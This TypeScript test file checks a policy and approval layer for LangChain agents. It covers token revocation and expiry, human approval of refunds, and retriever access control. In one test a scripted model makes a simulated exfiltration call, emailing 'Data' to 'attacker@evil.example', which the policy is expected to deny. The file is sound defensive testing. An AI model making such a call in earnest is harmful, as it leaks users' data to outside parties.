import { Document, type DocumentInterface } from '@langchain/core/documents';
import { ToolMessage } from '@langchain/core/messages';
import { BaseRetriever } from '@langchain/core/retrievers';
import { tool } from '@langchain/core/tools';
import { Command, MemorySaver } from '@langchain/langgraph';
import { AccessDeniedError, createMemoryRecorder, type MemoryRecorder } from '@palisade/core';
import {
  guardRetriever,
  guardTools,
  palisadeMiddleware,
  pendingApprovals,
  pendingReview,
} from '@palisade/langchain';
import { createAgent, FakeToolCallingModel } from 'langchain';
import { createPalisade, type Palisade } from 'palisade';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { z } from 'zod';

// The real parts end to end: identity tokens, the policy engine, the approval service.
const POLICY = `
name: support-desk
tools:
  get_ticket: { effect: read, target: helpdesk }
  send_email: { effect: send, target: mail }
  refund: { effect: write, target: payments }
  kb_search: { effect: read, kind: retrieval, target: kb }
rules:
  - id: read-tickets
    effect: allow
    tools: [get_ticket, kb_search]
    agents: ['spiffe://acme.example/agent/support-bot']
    roles: [support]
  - id: email-user-recipients
    effect: allow
    tools: [send_email]
    agents: ['spiffe://acme.example/agent/support-bot']
    roles: [support]
    approval: none
    when:
      input.to: { providedBy: user }
  - id: refunds
    effect: allow
    tools: [refund]
    agents: ['spiffe://acme.example/agent/support-bot']
    roles: [support]
    approval: required
    reason: refunds need a human
`;
const REVIEWER = 'reviewer-token';
const APPROVE = { decisions: [{ type: 'approve' as const }] };
const EFFECTS = { get_ticket: 'read', send_email: 'send', refund: 'write' } as const;

let clock = Date.UTC(2026, 10, 2, 9);
const opened: Palisade[] = [];

async function setup(): Promise<{ palisade: Palisade; audit: MemoryRecorder; token: string }> {
  const audit = createMemoryRecorder();
  const palisade = await createPalisade({
    trustDomain: 'acme.example',
    policy: POLICY,
    agents: [
      {
        name: 'support-bot',
        owner: 'team-support',
        purpose: 'Answer tickets',
        tools: ['get_ticket', 'send_email', 'refund', 'kb_search'],
      },
    ],
    approvals: {
      approvers: (credential) => {
        if (credential !== REVIEWER) throw new Error('unknown reviewer');
        return { id: 'bob', roles: ['lead'], human: true };
      },
    },
    audit,
    now: () => clock,
  });
  opened.push(palisade);
  const token = await palisade.identity!.issue({
    agent: 'support-bot',
    user: { id: 'alice', roles: ['support'] },
    ttlSeconds: 300,
  });
  return { palisade, audit, token };
}

afterEach(() => {
  for (const palisade of opened.splice(0)) palisade.close();
});

function bodies() {
  return {
    getTicket: vi.fn(async ({ id }: { id: string }) => `Ticket ${id}`),
    sendEmail: vi.fn(async ({ to }: { to: string }) => `Sent to ${to}`),
    refund: vi.fn(async ({ amount }: { amount: number }) => `Refunded ${amount}`),
  };
}

function tools(body: ReturnType<typeof bodies>) {
  return [
    tool(body.getTicket, { name: 'get_ticket', description: 'Read', schema: z.object({ id: z.string() }) }),
    tool(body.sendEmail, {
      name: 'send_email',
      description: 'Email',
      schema: z.object({ to: z.string(), body: z.string() }),
    }),
    tool(body.refund, { name: 'refund', description: 'Refund', schema: z.object({ amount: z.number() }) }),
  ];
}

function results(messages: unknown[]) {
  return messages
    .filter((message) => ToolMessage.isInstance(message))
    .map((message) => [message.name, message.status, String(message.content)]);
}

/** An agent paused on a 40 refund, whose approval a reviewer has granted; the resume is up to the test. */
async function approvedPausedRefund(threadId: string) {
  const { palisade, token } = await setup();
  const body = bodies();
  const agent = createAgent({
    model: new FakeToolCallingModel({
      toolCalls: [[{ name: 'refund', args: { amount: 40 }, id: 'r1' }], []],
    }),
    tools: tools(body),
    middleware: [palisadeMiddleware(palisade, { effects: EFFECTS })],
    checkpointer: new MemorySaver(),
  });
  const config = { configurable: { thread_id: threadId }, context: { credential: token } };
  const [pending] = pendingApprovals(
    await agent.invoke({ messages: [{ role: 'user', content: 'Refund 40' }] }, config),
  );
  const { approvalId } = pending!.approval;
  await palisade.approvalService!.decide({ approvalId, approve: true, approverCredential: REVIEWER });
  return { palisade, body, agent, config, approvalId };
}

describe('@palisade/langchain with createPalisade', () => {
  it('denies a resumed call whose agent token was revoked while it waited for approval', async () => {
    const { palisade, body, agent, config, approvalId } = await approvedPausedRefund('revoked');

    await palisade.identity!.revoke({
      agent: 'spiffe://acme.example/agent/support-bot',
      reason: 'compromised',
    });
    const done = await agent.invoke(new Command({ resume: APPROVE }), config);

    expect(results(done.messages)).toEqual([['refund', 'error', expect.stringMatching(/revoked/i)]]);
    expect(body.refund).not.toHaveBeenCalled();
    expect((await palisade.approvalService!.get(approvalId))?.status).toBe('approved');
  });

  it('denies a resumed call whose token expired while it waited', async () => {
    const { body, agent, config } = await approvedPausedRefund('expired');

    clock += 10 * 60_000;
    const done = await agent.invoke(new Command({ resume: APPROVE }), config);
    expect(results(done.messages)[0]?.[1]).toBe('error');
    expect(body.refund).not.toHaveBeenCalled();
  });

  it("takes the review UI's decisions in LangChain's shape, signed with the reviewer's credential, without the agent's context", async () => {
    const { palisade, token, audit } = await setup();
    const body = bodies();
    const agent = createAgent({
      model: new FakeToolCallingModel({
        toolCalls: [
          [
            { name: 'refund', args: { amount: 40 }, id: 'r1' },
            { name: 'refund', args: { amount: 4000 }, id: 'r2' },
          ],
          [],
        ],
      }),
      tools: tools(body),
      // createPalisade's approval service is the one the review is proposed to and decided in.
      middleware: [palisadeMiddleware(palisade, { effects: EFFECTS })],
      checkpointer: new MemorySaver(),
    });
    const thread = { configurable: { thread_id: 'hitl-ui' } };
    const paused = await agent.invoke(
      { messages: [{ role: 'user', content: 'Refund both' }] },
      { ...thread, context: { credential: token } },
    );
    const review = pendingReview(paused);
    expect(review?.actionRequests.map((action) => [action.name, action.args])).toEqual([
      ['refund', { amount: 40 }],
      ['refund', { amount: 4000 }],
    ]);
    expect(review?.actionRequests[0]?.description).toMatch(/^Palisade: .*\n\nTool: refund\nArgs: /s);

    const done = await agent.invoke(
      new Command({
        resume: {
          decisions: [
            { type: 'approve' },
            { type: 'edit', editedAction: { name: 'refund', args: { amount: 400 } } },
          ],
        },
      }),
      { ...thread, context: { approverCredential: REVIEWER } },
    );
    expect(results(done.messages)).toEqual([
      ['refund', 'success', 'Refunded 40'],
      ['refund', 'success', 'Refunded 400'],
    ]);
    expect(body.refund.mock.calls.map((call) => call[0])).toEqual([{ amount: 40 }, { amount: 400 }]);
    const requests = await palisade.approvalService!.list();
    const amount = (request: (typeof requests)[number]) => (request.input as { amount: number }).amount;
    requests.sort((a, b) => amount(a) - amount(b));
    expect(requests.map((request) => [request.input, request.status, request.decision?.approver])).toEqual([
      [{ amount: 40 }, 'consumed', 'bob'],
      [{ amount: 400 }, 'consumed', 'bob'],
      [{ amount: 4000 }, 'cancelled', undefined],
    ]);
    expect(audit.records.filter((record) => record.outcome?.status === 'ok')).toHaveLength(2);
  });

  it('checks provenance against the user messages when human messages are trusted', async () => {
    const { palisade, token } = await setup();
    const body = bodies();
    const agent = createAgent({
      model: new FakeToolCallingModel({
        toolCalls: [
          [
            { name: 'send_email', args: { to: 'carol@customer.example', body: 'Done' }, id: 'e1' },
            { name: 'send_email', args: { to: 'attacker@evil.example', body: 'Data' }, id: 'e2' },
          ],
          [],
        ],
      }),
      tools: tools(body),
      middleware: [palisadeMiddleware(palisade, { effects: EFFECTS, trustHumanMessages: true })],
    });
    const result = await agent.invoke(
      { messages: [{ role: 'user', content: 'Tell carol@customer.example that the refund is done' }] },
      { context: { credential: token } },
    );
    expect(results(result.messages)).toEqual([
      ['send_email', 'success', 'Sent to carol@customer.example'],
      ['send_email', 'error', expect.stringContaining('Denied "send_email"')],
    ]);
    expect(body.sendEmail).toHaveBeenCalledTimes(1);
  });

  it('lets the policy catalog win over an effect the application declared wrongly', async () => {
    const { palisade, token, audit } = await setup();
    const body = bodies();
    // The application claims refund is a read; the catalog says write.
    const guarded = guardTools(tools(body), palisade, { effects: { ...EFFECTS, refund: 'read' } });
    const refund = guarded.find((entry) => entry.name === 'refund')!;
    const error = await refund
      .invoke({ amount: 5 }, { context: { credential: token } } as never)
      .catch((caught) => caught);
    expect(AccessDeniedError.isInstance(error)).toBe(true);
    expect(body.refund).not.toHaveBeenCalled();
    expect(audit.records.at(-1)?.decision?.effect).toBe('deny');
  });

  it('guards a retriever with the same policy', async () => {
    const { palisade, token } = await setup();
    class Kb extends BaseRetriever {
      lc_namespace = ['test'];
      override async _getRelevantDocuments(): Promise<DocumentInterface[]> {
        return [new Document({ pageContent: 'Refunds take 5 days.' })];
      }
    }
    const kb = guardRetriever(new Kb(), palisade, { name: 'kb_search', target: 'kb' });
    const docs = await kb.invoke('refund delay', { context: { credential: token } } as never);
    expect(docs.map((doc) => doc.pageContent)).toEqual(['Refunds take 5 days.']);
    const anonymous = await kb.invoke('refund delay').catch((caught: unknown) => caught);
    expect(AccessDeniedError.isInstance(anonymous)).toBe(true);
  });
});
